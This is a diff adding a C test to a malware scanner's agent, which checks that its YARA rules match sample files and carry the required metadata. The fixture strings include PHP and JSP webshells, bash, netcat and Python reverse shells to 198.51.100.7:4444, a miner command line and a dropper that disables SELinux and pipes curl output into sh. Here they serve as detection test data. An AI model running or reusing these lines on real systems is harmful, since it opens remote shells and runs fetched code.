@@ -16,6 +16,7 @@
  */
 #include "check.h"
 
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <ftw.h>
@@ -33,6 +34,8 @@
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
+
+#include <yara.h>
 
 #include "agent/scan.h"
 #include "agent/scan_command.h"
@@ -779,6 +782,181 @@ static void pseudo_fs_not_entered(void)
     fx_destroy(&fx);
 }
 
+/* Every rule of rules/yara has its meta, and matches a harmless sample of
+ * the behaviour it describes (strings only: nothing here runs). */
+struct sample {
+    const char *name, *rule;
+    const char *bytes;
+    size_t len; /* 0: strlen */
+};
+
+#define ELF "\x7f" "ELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"
+static const char elf_mirai[] = ELF "....attack_udp_generic..attack_tcp_syn..attack_app_http..";
+static const char elf_gafgyt[] = ELF "..GETLOCALIP..SCANNER ON..HTTPFLOOD..UDPRAW..STDHEX..";
+static const char elf_upx[] = ELF "........UPX!..........$Info: This file is packed with the UPX executable packer";
+static const char elf_xmrig[] = ELF "..XMRig/6.21..--donate-level..stratum+tcp://..randomx..";
+
+static const struct sample samples[] = {
+    {"miner.json", "Yamori_Miner_Config", MINER_CONFIG, 0},
+    {"xmrig", "Yamori_Miner_XMRig_Binary", elf_xmrig, sizeof(elf_xmrig) - 1},
+    {"start-miner.sh", "Yamori_Miner_Command_Line",
+     "#!/bin/sh\n./sysupdate -o pool.example.invalid:3333 -u x --cpu-max-threads-hint 90 --background\n", 0},
+    {"mirai", "Yamori_Bot_Mirai_Like", elf_mirai, sizeof(elf_mirai) - 1},
+    {"gafgyt", "Yamori_Bot_Gafgyt_Like", elf_gafgyt, sizeof(elf_gafgyt) - 1},
+    {"upx", "Yamori_Packer_UPX_ELF", elf_upx, sizeof(elf_upx) - 1},
+    {"shell.php", "Yamori_Webshell_PHP_Exec", "<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n", 0},
+    {"cmd.jsp", "Yamori_Webshell_JSP_Exec",
+     "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n", 0},
+    {"rs.sh", "Yamori_ReverseShell_Bash_DevTcp", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", 0},
+    {"nc.sh", "Yamori_ReverseShell_Netcat_Exec", "#!/bin/sh\nnc 198.51.100.7 4444 -e /bin/sh\n", 0},
+    {"rs.py", "Yamori_ReverseShell_Script_Socket",
+     "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.7',4444))\n"
+     "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n", 0},
+    {"dropper.sh", "Yamori_Dropper_Kinsing_TeamTNT_Like",
+     "#!/bin/sh\nsetenforce 0\necho SELINUX=disabled > /etc/selinux/config\npkill -9 -f kdevtmpfsi\n"
+     "curl -s http://198.51.100.7/s.sh | sh\n", 0},
+    {NULL, NULL, NULL, 0},
+};
+
+/* Compiles every *.yar of dir and checks each rule's meta. */
+static int check_metas(const char *dir, char *err, size_t errlen)
+{
+    YR_COMPILER *comp = NULL;
+    YR_RULES *rules = NULL;
+    const YR_RULE *rule;
+    struct dirent *de;
+    DIR *d = NULL;
+    int e = 0, n = 0;
+
+    if (yr_initialize() != ERROR_SUCCESS || yr_compiler_create(&comp) != ERROR_SUCCESS) {
+        snprintf(err, errlen, "YARA did not start");
+        return -ENOMEM;
+    }
+    d = opendir(dir);
+    while (d && (de = readdir(d))) {
+        char path[PATH_MAX + 300];
+        size_t len = strlen(de->d_name);
+        FILE *fp;
+        if (len < 5 || strcmp(de->d_name + len - 4, ".yar") != 0)
+            continue;
+        snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+        if (!(fp = fopen(path, "re")) || yr_compiler_add_file(comp, fp, de->d_name, path) != 0) {
+            snprintf(err, errlen, "%.200s does not load or compile", de->d_name);
+            e = -EINVAL;
+            if (fp)
+                fclose(fp);
+            goto out;
+        }
+        fclose(fp);
+    }
+    if (yr_compiler_get_rules(comp, &rules) != ERROR_SUCCESS) {
+        snprintf(err, errlen, "no rules");
+        e = -EINVAL;
+        goto out;
+    }
+    yr_rules_foreach(rules, rule)
+    {
+        const YR_META *m;
+        bool desc = false, sev = false, ref = false;
+        n++;
+        yr_rule_metas_foreach(rule, m)
+        {
+            if (m->type != META_TYPE_STRING)
+                continue;
+            desc |= strcmp(m->identifier, "description") == 0 && strlen(m->string) > 20;
+            ref |= strcmp(m->identifier, "reference") == 0 && strlen(m->string) > 20;
+            sev |= strcmp(m->identifier, "severity") == 0 &&
+                   (!strcmp(m->string, "low") || !strcmp(m->string, "medium") || !strcmp(m->string, "high"));
+        }
+        if (!desc || !sev || !ref || strncmp(rule->identifier, "Yamori_", 7) != 0) {
+            snprintf(err, errlen, "rule %s: a Yamori_ name, description, severity and reference are required",
+                     rule->identifier);
+            e = -EINVAL;
+            goto out;
+        }
+    }
+    if (n < 14) {
+        snprintf(err, errlen, "only %d rules", n);
+        e = -EINVAL;
+    }
+out:
+    if (d)
+        closedir(d);
+    if (rules)
+        yr_rules_destroy(rules);
+    if (comp)
+        yr_compiler_destroy(comp);
+    yr_finalize();
+    return e;
+}
+
+static void rules_match_their_samples(void)
+{
+    struct fixture fx = {0};
+    struct scan_options o = {.kind = SCAN_CUSTOM, .cpu_budget = -1, .io_priority = SCAN_IO_NORMAL, .no_clamav = true,
+                             .dpkg_admindir = "/nonexistent"};
+    char dir[PATH_MAX], rules[PATH_MAX], err[512] = "", rel[64];
+    json_t *res = NULL, *f;
+    size_t i;
+    int e;
+
+    snprintf(fx.root, sizeof(fx.root), "/tmp/yamori-scan-XXXXXX");
+    CHECK(mkdtemp(fx.root) != NULL);
+    for (const struct sample *s = samples; s->name; s++) {
+        snprintf(rel, sizeof(rel), "samples/%s", s->name);
+        e = fx_write(&fx, rel, s->bytes, s->len ? s->len : strlen(s->bytes), 0644);
+        if (e) {
+            check_fail_(__FILE__, __LINE__, "fixture: %s", strerror(-e));
+            goto out;
+        }
+    }
+    /* the rule files themselves: never reported, though they hold every string */
+    scan_default_rules_dir(rules, sizeof(rules));
+    snprintf(dir, sizeof(dir), "%s/samples", fx.root);
+    o.path = dir;
+    e = run_scan(&o, &res, err, sizeof(err));
+    if (e) {
+        check_fail_(__FILE__, __LINE__, "scan: %s", err);
+        goto out;
+    }
+    for (const struct sample *s = samples; s->name; s++) {
+        bool hit = false;
+        snprintf(rel, sizeof(rel), "samples/%s", s->name);
+        json_array_foreach(json_object_get(res, "findings"), i, f)
+        {
+            char path[PATH_MAX];
+            snprintf(path, sizeof(path), "%s/%s", fx.root, rel);
+            if (strcmp(fstr(f, "path"), path) == 0 && strcmp(fstr(f, "rule"), s->rule) == 0)
+                hit = true;
+        }
+        if (!hit) {
+            check_fail_(__FILE__, __LINE__, "%s does not match %s", s->name, s->rule);
+            goto out;
+        }
+    }
+    /* every rule has description, severity (low|medium|high) and reference */
+    if ((e = check_metas(rules, err, sizeof(err))) != 0) {
+        check_fail_(__FILE__, __LINE__, "rule meta: %s", err);
+        goto out;
+    }
+    /* the rule files hold every string, but a scan never flags them */
+    {
+        json_t *r2 = NULL;
+        o.path = rules;
+        e = run_scan(&o, &r2, err, sizeof(err));
+        if (e || json_array_size(json_object_get(r2, "findings")) != 0) {
+            check_fail_(__FILE__, __LINE__, "the rule set flags itself: %s",
+                        e ? err : fstr(json_array_get(json_object_get(r2, "findings"), 0), "path"));
+            json_decref(r2);
+            goto out;
+        }
+        json_decref(r2);
+    }
+out:
+    json_decref(res);
+    fx_destroy(&fx);
+}
+
 static void fs_types(void)
 {
     CHECK(scan_fs_is_skipped(0x9fa0));      /* proc */
@@ -803,6 +981,7 @@ int main(int argc, char **argv)
         {"clamav_signature", clamav_signature},
         {"quick_scan_sees_tmp", quick_scan_sees_tmp},
         {"command_handler", command_handler},
+        {"rules_match_their_samples", rules_match_their_samples},
         {"pseudo_fs_not_entered", pseudo_fs_not_entered},
         {"fs_types", fs_types},
         {NULL, NULL},
